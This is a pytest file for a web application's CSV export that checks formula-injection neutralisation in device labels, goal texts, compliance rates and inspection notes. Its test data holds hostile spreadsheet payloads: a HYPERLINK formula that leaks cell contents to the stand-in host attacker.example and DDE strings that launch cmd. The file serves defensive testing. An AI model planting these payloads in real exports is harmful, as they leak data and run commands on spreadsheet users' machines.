"""Every CSV download goes through one writer: text that Excel would run as a formula is neutralised,
numbers stay numbers, the byte-order mark stays, and the content type names its charset once."""

from __future__ import annotations

import csv
import io
import json
import uuid

import httpx
import pytest

from server.csv_export import csv_text, safe_cell
from server.models import ComplianceTarget, SectionGoal, SelfCheckAnswer, User
from tests.server.conftest import LoginAs
from tests.server.projected import stored
from tests.server.test_inspections import Tablet, answer, start

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def rows_of(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.content.startswith("\ufeff".encode())
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["content-disposition"]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_is_written_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text
    written = next(csv.reader(io.StringIO(csv_text([[text]]).removeprefix("\ufeff"))))
    assert written == ["'" + text]


def test_numbers_stay_numbers_and_ordinary_text_is_untouched() -> None:
    assert (
        csv_text([[96.6, 28, 29, -3, "区民課", "2026-05-01"]]) == "\ufeff96.6,28,29,-3,区民課,2026-05-01\r\n"
    )


async def test_a_device_label_anyone_sets_reaches_the_manager_as_text(
    client: httpx.AsyncClient, login_as: LoginAs
) -> None:
    await login_as("demo-staff")
    headers = {"x-madoguchi-sync": "1", "content-type": "application/json"}
    body = {"client_id": str(uuid.uuid4()), "label": HYPERLINK, "unsent": 0}
    registered = await client.post("/api/sync/v1/clients", headers=headers, content=json.dumps(body))
    assert registered.status_code in {200, 201}, registered.text
    client.cookies.clear()
    await login_as("demo-manager")
    rows = rows_of(await client.get("/dashboard/export/sync.csv"))
    labels = [row[0] for row in rows[2:]]
    assert "'" + HYPERLINK in labels and HYPERLINK not in labels


async def test_goal_texts_are_neutralised(client: httpx.AsyncClient, login_as: LoginAs) -> None:
    section = (await User.get(login="demo-staff")).section_id
    await SectionGoal.create(
        id=uuid.uuid4(),
        section_id=section,
        fiscal_year=2026,
        title="=1+1",
        indicator="@A1",
        target="-5分",
        status="planned",
    )
    await login_as("demo-manager")
    rows = rows_of(await client.get("/dashboard/export/goals.csv?year=2026"))
    goal = next(row for row in rows[1:] if row[1].endswith("=1+1"))
    assert goal[1:4] == ["'=1+1", "'@A1", "'-5分"]


async def test_a_compliance_rate_is_three_numbers(client: httpx.AsyncClient, login_as: LoginAs) -> None:
    section = (await User.get(login="demo-staff")).section_id
    await ComplianceTarget.create(fiscal_year=2026, section_id=0, percent=90)
    for n, result in enumerate(["compliant"] * 28 + ["noncompliant"]):
        await stored(
            SelfCheckAnswer, section_id=section, period="2026-05", respondent=f"user:{n}",
            standard_code="SB-01", result=result,
        )  # fmt: skip
    await login_as("demo-manager")
    rows = rows_of(await client.get(f"/dashboard/export/compliance.csv?year=2026&section={section}"))
    header, row = rows[1], rows[2]
    may = header.index("2026-05 遵守率(%)")
    assert header[may + 1 : may + 3] == ["2026-05 遵守", "2026-05 該当"]
    assert row[may : may + 3] == ["96.6", "28", "29"]
    assert row[header.index("目標(%)")] == "90"


async def test_an_inspection_s_place_and_note_are_neutralised(login_as: LoginAs) -> None:
    client = await login_as("demo-staff")
    tablet = Tablet(client)
    inspection = await start(tablet, place="=cmd|' /C calc'!A0")
    answer(tablet, inspection, "mado-03", result="fail", note=HYPERLINK)
    await tablet.sync()
    rows = rows_of(await client.get("/inspections/export.csv"))
    failed = next(r for r in rows if r[10] == "mado-03")
    assert failed[4] == "'=cmd|' /C calc'!A0" and failed[14] == "'" + HYPERLINK
    assert failed[15] == "0"  # the photo count is a number
